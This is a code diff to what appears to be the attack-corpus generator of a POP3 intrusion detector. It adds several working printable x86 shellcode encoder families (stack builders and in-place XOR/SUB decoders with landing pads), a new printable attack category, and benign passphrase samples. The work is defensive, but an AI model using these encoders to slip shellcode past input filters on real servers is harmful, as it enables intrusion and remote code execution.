@@ -16,6 +16,7 @@ from __future__ import annotations
 
 import base64
 import hashlib
+import itertools
 import random
 import string
 import struct
@@ -505,6 +506,268 @@ def printable_encode(rng: random.Random, payload: bytes, base: int = EAX) -> byt
     return head + bytes(body) + filler
 
 
+# ====================================================================== printable encoder families
+#
+# Hand-written "printable" encoders and several framework encoders build their payload from
+# printable bytes only: the values are computed in eax with AND (to clear it), SUB and XOR
+# against printable immediates and PUSH/POP moves, and then either pushed onto a stack that
+# was moved to just past the builder ("built on the stack"), or stored over placeholder bytes
+# further on in the argument ("in place").  There is no loop and no backward jump: execution
+# runs off the end of the builder, over a landing pad, into the code it wrote.  The families
+# below vary the register the exploit points at the code, the zeroing and arithmetic used to
+# reach each value, the register a value travels through, the order and segmentation of the
+# stack writes, the landing pad and the payload.
+
+#: printable bytes the families use for immediates and placeholders
+PRINT = bytes(range(0x21, 0x7F))
+#: one-byte printable instructions a landing pad may be made of: inc/dec of registers other
+#: than esp, and the BCD adjustments (they touch only al and the flags)
+PAD_BYTES = b"ABCFGHIJKNO'/7?"
+#: registers a value may travel through (push eax; pop R; push R) and pointer registers
+_TRANSIT = (ECX, EDX, EBX, ESI, EDI, EBP)
+_POINTERS = (ECX, EDX, EBX, ESI, EDI)
+
+
+def _printable_terms(rng: random.Random, total: int, count: int) -> list[int]:
+    """``count`` (3 or more) dwords, every byte printable, whose sum is ``total`` modulo 2**32."""
+    low, high = 0x21, 0x7E
+    values = [0] * count
+    carry = 0
+    for position in range(4):
+        want = (total >> (8 * position)) & 0xFF
+        feasible = [want + 256 * k - carry for k in range(count + 1)]
+        feasible = [s for s in feasible if count * low <= s <= count * high]
+        target = rng.choice(feasible)
+        parts = []
+        rest = target
+        for left in range(count, 0, -1):
+            if left == 1:
+                part = rest
+            else:
+                part = rng.randint(max(low, rest - (left - 1) * high), min(high, rest - (left - 1) * low))
+            parts.append(part)
+            rest -= part
+        for i, part in enumerate(parts):
+            values[i] |= part << (8 * position)
+        carry = (target + carry) >> 8
+    return values
+
+
+def _printable_dword(rng: random.Random) -> int:
+    return struct.unpack("<I", bytes(rng.choice(PRINT) for _ in range(4)))[0]
+
+
+def _eax_becomes(rng: random.Random, value: int, plan: tuple[str, int, list[str]]) -> bytes:
+    """Printable code that leaves ``value`` in eax whatever eax held.
+
+    ``plan`` = (zeroing, number of SUB terms, trailing operations): eax is cleared (two AND
+    masks, or push/pop/xor of one immediate), brought to an intermediate value by SUB terms,
+    then through the trailing XOR/SUB operations to ``value``.
+    """
+    zeroing, terms, trailing = plan
+    code = bytearray()
+    # (eax cleared by two AND masks, by xor with the immediate it was loaded with, or by
+    # push imm8 / pop eax / xor al)
+    if zeroing == "and":
+        m1, m2 = _zero_masks(rng, PRINT)
+        code += b"%" + A.d32(m1) + b"%" + A.d32(m2)
+    elif zeroing == "xor":  # push imm32; pop eax; xor eax, imm32 (the same immediate)
+        k = _printable_dword(rng)
+        code += b"h" + A.d32(k) + b"X5" + A.d32(k)
+    else:  # push imm8; pop eax (eax = the small immediate); xor al, imm8
+        k = rng.choice(PRINT)
+        code += b"j" + bytes((k,)) + b"X4" + bytes((k,))
+    immediates = [_printable_dword(rng) for _ in trailing]
+    before = value
+    for op, k in zip(reversed(trailing), reversed(immediates)):
+        before = before ^ k if op == "xor" else (before + k) & 0xFFFFFFFF
+    for term in _printable_terms(rng, (-before) & 0xFFFFFFFF, terms):
+        code += b"-" + A.d32(term)
+    for op, k in zip(trailing, immediates):
+        code += (b"5" if op == "xor" else b"-") + A.d32(k)
+    return bytes(code)
+
+
+def _eax_plan(rng: random.Random) -> tuple[str, int, list[str]]:
+    return (rng.choice(["and", "xor", "push8"]), rng.choice([3, 3, 4]),
+            [rng.choice(["xor", "sub"]) for _ in range(rng.choice([0, 0, 1, 2]))])
+
+
+def _eax_plan_size(plan: tuple[str, int, list[str]]) -> int:
+    return {"and": 10, "xor": 11, "push8": 5}[plan[0]] + 5 * plan[1] + 5 * len(plan[2])
+
+
+def _landing_pad(rng: random.Random, length: int) -> bytes:
+    return bytes(rng.choice(PAD_BYTES) for _ in range(length))
+
+
+def _dwords(payload: bytes) -> list[int]:
+    payload += b"\x90" * (-len(payload) % 4)
+    return [struct.unpack("<I", payload[i:i + 4])[0] for i in range(0, len(payload), 4)]
+
+
+def _copy_base(base: int, to: int) -> bytes:
+    """``push base; pop to`` (nothing if they are the same register)."""
+    return b"" if base == to else bytes((0x50 + base, 0x58 + to))
+
+
+def printable_stack_builder(rng: random.Random, payload: bytes, base: int = EAX, before: int = 0) -> bytes:
+    """Built on the stack, in one to three segments written in any order.
+
+    The start pointer (the register the exploit jumped through, ``esp`` after ``jmp esp``,
+    pointing ``before`` bytes before the builder) is kept in a register S; for each segment, ``push S; pop eax; sub ...; push eax; pop esp``
+    puts the stack at the segment's end, and each dword is computed in eax and pushed
+    (directly or through another register), last dword first.
+    """
+    dwords = _dwords(payload)
+    keep = rng.choice([r for r in (EBX, ESI, EDI, EBP, EDX, ECX) if r != base])
+    cuts = sorted(rng.sample(range(1, len(dwords)), min(len(dwords) - 1, rng.choice([0, 1, 2]))))
+    bounds = [0] + cuts + [len(dwords)]
+    count = len(bounds) - 1
+    # any order in which no segment but the last one built ends (the next segment's ``push``
+    # lands on the dword below its start) above a segment already built or above the landing pad
+    orders = [order for order in itertools.permutations(range(count))
+              if all(order[i] != 0 and order[i] - 1 not in order[:i] for i in range(count - 1))]
+    segments = [(bounds[i], bounds[i + 1]) for i in rng.choice(orders)]
+    # structure first, values after: the layout must be known before the offsets are computed
+    seg_terms = [rng.choice([3, 4]) for _ in segments]
+    dword_plans = [_eax_plan(rng) for _ in dwords]
+    transit = [rng.choice(_TRANSIT) if rng.random() < 0.4 else EAX for _ in dwords]
+    transit = [EAX if t == keep else t for t in transit]
+    junk = [rng.choice([b"", b"", b"AI", b"BJ", b"GO", b"7", b"?"]) for _ in dwords]
+    junk = [b"" if keep in (ECX, EDX, EDI) and j[:1] in (bytes((0x40 + keep,)),) else j for j in junk]
+    pad = rng.randint(0, 24)
+    size = 2 if base != keep else 0
+    size += sum(4 + 5 * t for t in seg_terms)
+    size += sum(_eax_plan_size(p) + (1 if t == EAX else 3) + len(j) for p, t, j in zip(dword_plans, transit, junk))
+    start_of_payload = size + pad
+    code = bytearray(_copy_base(base, keep))
+    for (first, last), terms in zip(segments, seg_terms):
+        end = before + start_of_payload + 4 * last
+        code += bytes((0x50 + keep,)) + b"X"
+        for term in _printable_terms(rng, (-end) & 0xFFFFFFFF, terms):
+            code += b"-" + A.d32(term)
+        code += b"P\\"
+        for index in range(last - 1, first - 1, -1):
+            code += _eax_becomes(rng, dwords[index], dword_plans[index])
+            code += b"P" if transit[index] == EAX else bytes((0x50, 0x58 + transit[index], 0x50 + transit[index]))
+            code += junk[index]
+    assert len(code) == size, (len(code), size)
+    filler = bytes(rng.choice(PRINT) for _ in range(4 * len(dwords)))
+    return bytes(code) + _landing_pad(rng, pad) + filler + _landing_pad(rng, rng.randint(0, 16))
+
+
+def _byte_value(rng: random.Random, value: int) -> bytes:
+    """Printable code that leaves ``value`` in al: push imm8; pop eax, then SUB/XOR al, imm8."""
+    for _ in range(200):
+        steps = [rng.choice(["sub", "xor"]) for _ in range(rng.choice([1, 1, 2]))]
+        immediates = [rng.choice(PRINT) for _ in steps]
+        before = value
+        for op, k in zip(reversed(steps), reversed(immediates)):
+            before = before ^ k if op == "xor" else (before + k) & 0xFF
+        if 0x21 <= before <= 0x7E:
+            return b"j" + bytes((before,)) + b"X" + b"".join(
+                (b"4" if op == "xor" else b",") + bytes((k,)) for op, k in zip(steps, immediates))
+    raise ValueError("no printable way to that byte")
+
+
+def printable_inplace_bytes(rng: random.Random, payload: bytes, base: int = EAX, before: int = 0) -> bytes:
+    """In place, a byte at a time: a pointer register P is set a little before the payload's
+    placeholder bytes, each byte is computed in al (push/pop, SUB/XOR with immediates), moved
+    to dl or bl when P allows, and XORed or SUBtracted into its placeholder; bytes that are
+    printable may be left as they are.  P is moved on every 60 bytes."""
+    pointer = rng.choice([r for r in _POINTERS])
+    sources = [r for r in (A.AL, A.DL, A.BL) if r != pointer]
+    plan = []  # per byte: (store op, source register, placeholder) or None when left as is
+    for b in payload:
+        if 0x21 <= b <= 0x7E and rng.random() < 0.5:
+            plan.append(None)
+            continue
+        plan.append((rng.choice(["xor", "sub"]), rng.choice(sources), rng.choice(PRINT)))
+    init_terms = rng.choice([3, 4])
+    rebase_terms = [rng.choice([3, 4]) for _ in range(len(payload) // 60 + 1)]
+    # lengths of every piece are fixed by the plan; values are computed in a second pass
+    pieces: list[tuple[str, object]] = []
+    for index, step in enumerate(plan):
+        if index and index % 60 == 0:
+            pieces.append(("rebase", rebase_terms[index // 60]))
+        if step is not None:
+            pieces.append(("byte", index))
+    pad = rng.randint(0, 24)
+    values: dict[int, bytes] = {}
+    # a byte's code has variable length (1-2 arithmetic steps), so draw it before the layout
+    for index, step in enumerate(plan):
+        if step is None:
+            continue
+        op, source, placeholder = step
+        wanted = payload[index]
+        value = placeholder ^ wanted if op == "xor" else (placeholder - wanted) & 0xFF
+        code = _byte_value(rng, value)
+        if source != A.AL:
+            code += bytes((0x50, 0x58 + source))  # push eax; pop edx / ebx (low byte dl / bl)
+        values[index] = code
+    head = (0 if base == EAX else 2) + 5 * init_terms + 2  # push base; pop eax | subs | push eax; pop P
+    size = head + sum(4 + 5 * t for kind, t in pieces if kind == "rebase")
+    size += sum(len(values[i]) + 3 for kind, i in pieces if kind == "byte")
+    lead = 0x40
+    code = bytearray(_copy_base(base, EAX))
+    for term in _printable_terms(rng, (-(before + size + pad - lead)) & 0xFFFFFFFF, init_terms):
+        code += b"-" + A.d32(term)
+    code += b"P" + bytes((0x58 + pointer,))
+    for kind, item in pieces:
+        if kind == "rebase":
+            code += bytes((0x50 + pointer,)) + b"X"
+            for term in _printable_terms(rng, (-60) & 0xFFFFFFFF, item):
+                code += b"-" + A.d32(term)
+            code += b"P" + bytes((0x58 + pointer,))
+            continue
+        op, source, _ = plan[item]
+        code += values[item] + bytes((0x30 if op == "xor" else 0x28, A.modrm(1, source, pointer), lead + item % 60))
+    assert len(code) == size, (len(code), size)
+    encoded = bytes(b if step is None else step[2] for b, step in zip(payload, plan))
+    return bytes(code) + _landing_pad(rng, pad) + encoded + _landing_pad(rng, rng.randint(0, 16))
+
+
+def printable_inplace_dwords(rng: random.Random, payload: bytes, base: int = EAX, before: int = 0) -> bytes:
+    """In place, a dword at a time: each dword is computed in eax (AND, SUB, XOR) and XORed or
+    SUBtracted into its placeholder through a pointer register that is moved on as needed."""
+    dwords = _dwords(payload)
+    pointer = rng.choice(_POINTERS)
+    ops = [rng.choice(["xor", "sub"]) for _ in dwords]
+    plans = [_eax_plan(rng) for _ in dwords]
+    placeholders = [_printable_dword(rng) for _ in dwords]
+    per_base = 15  # dwords reachable with printable displacements 0x40..0x7b from one pointer value
+    init_terms = rng.choice([3, 4])
+    rebase_terms = [rng.choice([3, 4]) for _ in range(len(dwords) // per_base + 1)]
+    pad = rng.randint(0, 24)
+    size = (0 if base == EAX else 2) + 5 * init_terms + 2
+    size += sum(4 + 5 * rebase_terms[i // per_base] for i in range(1, len(dwords)) if i % per_base == 0)
+    size += sum(_eax_plan_size(plan) + 3 for plan in plans)
+    lead = 0x40
+    code = bytearray(_copy_base(base, EAX))
+    for term in _printable_terms(rng, (-(before + size + pad - lead)) & 0xFFFFFFFF, init_terms):
+        code += b"-" + A.d32(term)
+    code += b"P" + bytes((0x58 + pointer,))
+    for index, dword in enumerate(dwords):
+        if index and index % per_base == 0:
+            code += bytes((0x50 + pointer,)) + b"X"
+            for term in _printable_terms(rng, (-4 * per_base) & 0xFFFFFFFF, rebase_terms[index // per_base]):
+                code += b"-" + A.d32(term)
+            code += b"P" + bytes((0x58 + pointer,))
+        p = placeholders[index]
+        value = p ^ dword if ops[index] == "xor" else (p - dword) & 0xFFFFFFFF
+        code += _eax_becomes(rng, value, plans[index])
+        code += bytes((0x31 if ops[index] == "xor" else 0x29, A.modrm(1, EAX, pointer), lead + 4 * (index % per_base)))
+    assert len(code) == size, (len(code), size)
+    encoded = b"".join(A.d32(p) for p in placeholders)
+    return bytes(code) + _landing_pad(rng, pad) + encoded + _landing_pad(rng, rng.randint(0, 16))
+
+
+#: the printable families and the registers an exploit may leave pointing at the code
+PRINTABLE_FAMILIES = [printable_stack_builder, printable_inplace_bytes, printable_inplace_dwords]
+PRINTABLE_BASES = [EAX, EBX, ECX, EDX, ESI, EDI, EBP, ESP]
+
+
 # ====================================================================== sleds and sprays
 
 SLED_ONE = bytes([0x90, 0x91, 0x92, 0x93, 0x95, 0x96, 0x97, 0x98, 0x99, 0xF5, 0xF8, 0xF9, 0xFC, 0xFD,
@@ -581,6 +844,25 @@ def gen_printable(rng: random.Random) -> bytes:
     return printable_encode(rng, x86_payload(rng, LINUX_PAYLOADS + WINDOWS_PAYLOADS), base)
 
 
+def gen_printable_family(rng: random.Random) -> bytes:
+    """One of the printable encoder families, with a random base register and payload.
+
+    Half of them come after a landing pad the exploit jumps into: the base register points
+    either at the pad (the builder's offsets count it: ``before``) or at the builder itself.
+    """
+    family = rng.choice(PRINTABLE_FAMILIES)
+    payload = x86_payload(rng, LINUX_PAYLOADS + WINDOWS_PAYLOADS)
+    base = rng.choice(PRINTABLE_BASES)
+    if rng.random() < 0.5:
+        return family(rng, payload, base)
+    before = rng.random() < 0.5
+    # a pad run with the base register pointing at it must leave that register alone
+    touched = {0x40 + base, 0x48 + base} | (set(b"'/7?") if base == EAX else set())  # BCD adjusts change al
+    pad = bytes(b for b in PAD_BYTES if not before or b not in touched)
+    lead = bytes(rng.choice(pad) for _ in range(rng.randint(1, 40)))
+    return lead + family(rng, payload, base, len(lead) if before else 0)
+
+
 def gen_sled(rng: random.Random) -> bytes:
     """A sled with whatever follows it cut off (or a jump): the delivery half alone."""
     sled = any_sled(rng, rng.randint(48, 1024))
@@ -639,6 +921,8 @@ ATTACKS: dict[str, tuple[Callable[[random.Random], bytes], str]] = {
     "slmail": (gen_slmail, "password"),
     "cyrus": (gen_cyrus, "username"),
     "x86-64": (gen_x64, "password"),
+    # appended last so that the seeds (and corpora) of the categories above stay as they were
+    "printable-family": (gen_printable_family, "password"),
 }
 
 
@@ -714,6 +998,92 @@ def _passphrase(rng: random.Random) -> bytes:
     if rng.random() < 0.4:
         phrase += str(rng.randint(0, 9999)) + rng.choice(["", "!", "?", "#", "$"])
     return phrase.encode()
+
+
+#: more word lists for passphrases: other languages (ASCII spellings), short diceware-like
+#: words, and syllables that make pronounceable made-up words
+_WORD_LISTS = [
+    _WORDS,
+    ("haus baum wasser feuer stein wolke sonne mond stern apfel birne kirsche brot kaese milch "
+     "zucker fenster tuer garten strasse bruecke schiff zug vogel katze hund pferd fisch wald").split(),
+    ("maison arbre soleil lune etoile pomme fromage pain beurre jardin fenetre porte chemin "
+     "riviere montagne nuage pluie neige vent fleur oiseau chat chien cheval poisson foret").split(),
+    ("casa arbol agua fuego piedra nube sol luna estrella manzana queso pan jardin ventana "
+     "puerta camino rio montana lluvia nieve viento flor pajaro gato perro caballo bosque").split(),
+    "ab ace act add age aid aim air all and ant ape arc arm art ash ask axe bad bag ban bar bat bay bed bee".split(),
+]
+_SYLLABLES = "ka ri mo te lu sa ne vo pi da go fu zen tor mil bar quo xy wen dra".split()
+_SEPARATORS = [" ", "-", ".", "_", "", ",", "+", "/", "~", ":", ";", "*"]
+
+
+def _phrase_word(rng: random.Random, words: list[str]) -> str:
+    if rng.random() < 0.15:
+        return "".join(rng.choice(_SYLLABLES) for _ in range(rng.randint(2, 4)))
+    word = rng.choice(words)
+    style = rng.random()
+    if style < 0.15:
+        word = word.capitalize()
+    elif style < 0.2:
+        word = word.upper()
+    if rng.random() < 0.2:
+        word += str(rng.randint(0, 999))
+    if rng.random() < 0.05:
+        word += rng.choice("!?#$%&@^")
+    return word
+
+
+def passphrase(rng: random.Random, low: int = 8, high: int = 2000) -> bytes:
+    """A passphrase of ``low`` to ``high`` octets: words of one list (or made up), digits and
+    punctuation, joined by one separator (or alternating two), cut to the length."""
+    bands = [(max(low, a), min(high, b), weight) for a, b, weight in ((8, 40, 3), (40, 200, 4), (200, 2000, 3))]
+    bands = [band for band in bands if band[0] <= band[1]]
+    lo, hi, _ = rng.choices(bands, weights=[band[2] for band in bands])[0]
+    length = rng.randint(lo, hi)
+    words = rng.choice(_WORD_LISTS)
+    separators = rng.sample(_SEPARATORS, rng.choice([1, 1, 1, 2]))
+    out = _phrase_word(rng, words)
+    while len(out) < length:
+        out += rng.choice(separators) + _phrase_word(rng, words)
+    return out[:length].encode()
+
+
+def dotted_plain_response(rng: random.Random, size: int = 400) -> bytes:
+    """The decoded AUTH PLAIN response the evaluation flagged: NUL, a user name, NUL, and
+    lower-case words and digits joined by dots (``maple.river42.stone.quiet...``)."""
+    user = rng.choice(_FIRST).encode()
+    words = []
+    while sum(len(w) + 1 for w in words) < size:
+        word = rng.choice(_WORDS)
+        words.append(word + (str(rng.randint(0, 99)) if rng.random() < 0.3 else ""))
+    secret = ".".join(words).encode()[:size - len(user) - 2]
+    return b"\0" + user + b"\0" + secret
+
+
+#: what the protocol layer keeps of an over-long line for analysis (pop3shield.core.framing.WINDOW)
+LINE_WINDOW = 2048
+
+
+def overlong_arguments(line: bytes) -> list[tuple[bytes, str]]:
+    """The arguments the protocol layer hands the detector for an over-long line, mirroring
+    ``Session._overlong_arguments``: the head after the keyword and the tail, typed by the
+    keyword's first field (AUTH: ``mechanism``)."""
+    head, tail = line[:LINE_WINDOW], line[-LINE_WINDOW:]
+    keyword, _, rest = head.partition(b" ")
+    field = {b"USER": "username", b"PASS": "password", b"APOP": "username", b"AUTH": "mechanism"}.get(keyword.upper(), "text")
+    return [(rest or head, field), (tail, field)]
+
+
+def _passphrase_lines(rng: random.Random) -> Iterator[tuple[bytes, str]]:
+    """Over-long PASS and AUTH PLAIN lines with a passphrase, as the detector receives them."""
+    if rng.random() < 0.5:
+        line = b"PASS " + passphrase(rng, 260, 2000)
+    else:
+        if rng.random() < 0.5:
+            decoded = dotted_plain_response(rng, rng.randint(200, 1400))
+        else:
+            decoded = b"\0" + _email(rng) + b"\0" + passphrase(rng, 200, 1400)
+        line = b"AUTH PLAIN " + base64.b64encode(decoded)
+    yield from overlong_arguments(line)
 
 
 def _latin1_password(rng: random.Random) -> bytes:
@@ -816,6 +1186,15 @@ def _benign_makers() -> dict[str, tuple[int, Callable[[random.Random], Iterator[
         for part in sasl_fields(_sasl_message(rng)):
             yield part, "sasl"
 
+    def passphrase_sasl(rng: random.Random) -> Iterator[tuple[bytes, str]]:
+        """AUTH PLAIN (split on NUL) and AUTH LOGIN responses with a passphrase, decoded."""
+        if rng.random() < 0.3:
+            decoded = dotted_plain_response(rng, rng.randint(100, 1400))
+        else:
+            decoded = b"\0" + _email(rng) + b"\0" + passphrase(rng)
+        for part in sasl_fields(decoded):
+            yield part, "sasl"
+
     return {
         "email": (1500, one(_email, "username")),
         "utf8-name": (1500, one(_utf8_name, "username")),
@@ -828,6 +1207,10 @@ def _benign_makers() -> dict[str, tuple[int, Callable[[random.Random], Iterator[
         "number": (800, one(lambda r: str(r.randint(1, 10 ** r.randint(1, 6))).encode(), "number")),
         "digest": (800, one(lambda r: (hashlib.md5(r.randbytes(8)).hexdigest().upper() if r.random() < 0.2 else hashlib.md5(r.randbytes(8)).hexdigest()).encode(), "digest")),
         "mechanism": (200, one(lambda r: r.choice([b"PLAIN", b"LOGIN", b"CRAM-MD5", b"DIGEST-MD5", b"SCRAM-SHA-1", b"SCRAM-SHA-256", b"XOAUTH2", b"OAUTHBEARER", b"GSSAPI", b"NTLM"]), "mechanism")),
+        # appended last so that the seeds (and corpora) of the categories above stay as they were
+        "passphrase-pass": (2000, one(passphrase, "password")),
+        "passphrase-sasl": (1000, passphrase_sasl),
+        "passphrase-overlong": (1000, _passphrase_lines),
     }
 
 
